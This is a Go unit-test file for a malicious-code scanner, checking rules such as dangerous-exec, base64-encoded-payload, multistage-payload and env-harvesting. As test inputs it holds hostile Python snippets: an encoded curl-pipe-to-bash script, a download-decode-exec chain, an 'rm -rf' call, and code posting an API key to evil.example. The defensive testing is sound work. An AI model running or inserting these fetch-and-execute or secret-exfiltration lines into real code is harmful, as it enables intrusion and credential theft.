package scanner

import (
	"strings"
	"testing"
)

func hasRule(issues []Issue, ruleID string) bool {
	for _, i := range issues {
		if i.RuleID == ruleID {
			return true
		}
	}
	return false
}

func TestScanContent_DangerousExecIsUnsafe(t *testing.T) {
	result := New(Options{}).ScanContent(`import subprocess
subprocess.run(["rm", "-rf", "/tmp/x"])
`, "python")

	if result.IsSafe {
		t.Fatal("expected unsafe result for subprocess call")
	}
	if !hasRule(result.Issues, "dangerous-exec") {
		t.Fatalf("expected dangerous-exec rule to fire, got %+v", result.Issues)
	}
}

func TestScanContent_PlainScriptIsSafe(t *testing.T) {
	result := New(Options{}).ScanContent(`def add(a, b):
    return a + b
`, "python")

	if !result.IsSafe {
		t.Fatalf("expected safe result, got issues %+v", result.Issues)
	}
}

func TestScanContent_NetworkRequestSuppressedWhenAllowed(t *testing.T) {
	content := "import requests\nrequests.get('https://example.com')\n"

	blocked := New(Options{}).ScanContent(content, "python")
	if !hasRule(blocked.Issues, "network-request") {
		t.Fatal("expected network-request to fire without AllowNetwork")
	}

	allowed := New(Options{AllowNetwork: true}).ScanContent(content, "python")
	if hasRule(allowed.Issues, "network-request") {
		t.Fatal("expected network-request to be suppressed when AllowNetwork is set")
	}
}

func TestScanContent_DisabledRuleDoesNotFire(t *testing.T) {
	content := "eval(x)\n"
	result := New(Options{DisabledRules: []string{"dynamic-code"}}).ScanContent(content, "python")
	if hasRule(result.Issues, "dynamic-code") {
		t.Fatal("expected dynamic-code to be suppressed when disabled")
	}
}

func TestScanContent_EntropyFlagsLongRandomLiteral(t *testing.T) {
	// Long, high-entropy-looking literal (mixed case, digits, punctuation).
	line := `key = "kX9$mQ2#pL7@vN4!rT8%wY1&zA6^bC3*dE5"`
	result := New(Options{}).ScanContent(line+"\n", "python")
	if !hasRule(result.Issues, "entropy-obfuscation") {
		t.Fatalf("expected entropy-obfuscation to fire, got %+v", result.Issues)
	}
}

func TestScanContent_Base64WithDangerousPayload(t *testing.T) {
	encoded := "IyEvYmluL3NoCmN1cmwgaHR0cDovL2V4YW1wbGUuY29tL3BheWxvYWQgfCBiYXNo"
	line := `data = base64.b64decode("` + encoded + `")`
	result := New(Options{}).ScanContent(line+"\n", "python")

	var found *Issue
	for i := range result.Issues {
		if result.Issues[i].RuleID == "base64-encoded-payload" {
			found = &result.Issues[i]
		}
	}
	if found == nil {
		t.Fatalf("expected base64-encoded-payload to fire, got %+v", result.Issues)
	}
	if found.Severity != SeverityCritical {
		t.Fatalf("expected Critical severity for dangerous decoded payload, got %s", found.Severity)
	}
}

func TestScanContent_MultistageChainEscalatesSeverity(t *testing.T) {
	content := strings.Join([]string{
		`import urllib.request`,
		`data = urllib.request.urlopen("http://example.com/stage2").read()`,
		`decoded = base64.b64decode(data)`,
		`exec(decoded)`,
	}, "\n")

	result := New(Options{}).ScanContent(content, "python")
	var found *Issue
	for i := range result.Issues {
		if result.Issues[i].RuleID == "multistage-payload" {
			found = &result.Issues[i]
		}
	}
	if found == nil {
		t.Fatalf("expected multistage-payload to fire, got %+v", result.Issues)
	}
	if found.Severity != SeverityCritical {
		t.Fatalf("expected Critical severity for 3-of-3 stage match, got %s", found.Severity)
	}
}

func TestScanContent_EnvHarvestingRequiresNetworkContext(t *testing.T) {
	onlyEnv := "token = os.environ['API_KEY']\nprint(token)\n"
	result := New(Options{}).ScanContent(onlyEnv, "python")
	if hasRule(result.Issues, "env-harvesting") {
		t.Fatal("env-harvesting should not fire without a network-call context pattern")
	}

	withNetwork := "token = os.environ['API_KEY']\nrequests.post('https://evil.example', data=token)\n"
	result = New(Options{}).ScanContent(withNetwork, "python")
	if !hasRule(result.Issues, "env-harvesting") {
		t.Fatal("env-harvesting should fire when os.environ co-occurs with a network call")
	}
}

func TestScanContent_CommentedOutCodeIsIgnored(t *testing.T) {
	content := "# subprocess.run(['rm', '-rf', '/'])\nx = 1\n"
	result := New(Options{}).ScanContent(content, "python")
	if hasRule(result.Issues, "dangerous-exec") {
		t.Fatal("expected commented-out line to be skipped")
	}
}

func TestTruncate(t *testing.T) {
	s := "hello world"
	if got := truncate(s, 5); got != "hello" {
		t.Fatalf("truncate(%q, 5) = %q", s, got)
	}
	if got := truncate(s, 100); got != s {
		t.Fatalf("truncate should return original string when under limit, got %q", got)
	}
}

func TestIsCommentLine(t *testing.T) {
	cases := []struct {
		trimmed, language string
		want              bool
	}{
		{"# a comment", "python", true},
		{"x = 1", "python", false},
		{"// a comment", "node", true},
		{"* block comment continuation", "node", true},
		{"echo hi", "bash", false},
		{"# shebang-ish", "bash", true},
	}
	for _, c := range cases {
		if got := isCommentLine(c.trimmed, c.language); got != c.want {
			t.Errorf("isCommentLine(%q, %q) = %v, want %v", c.trimmed, c.language, got, c.want)
		}
	}
}
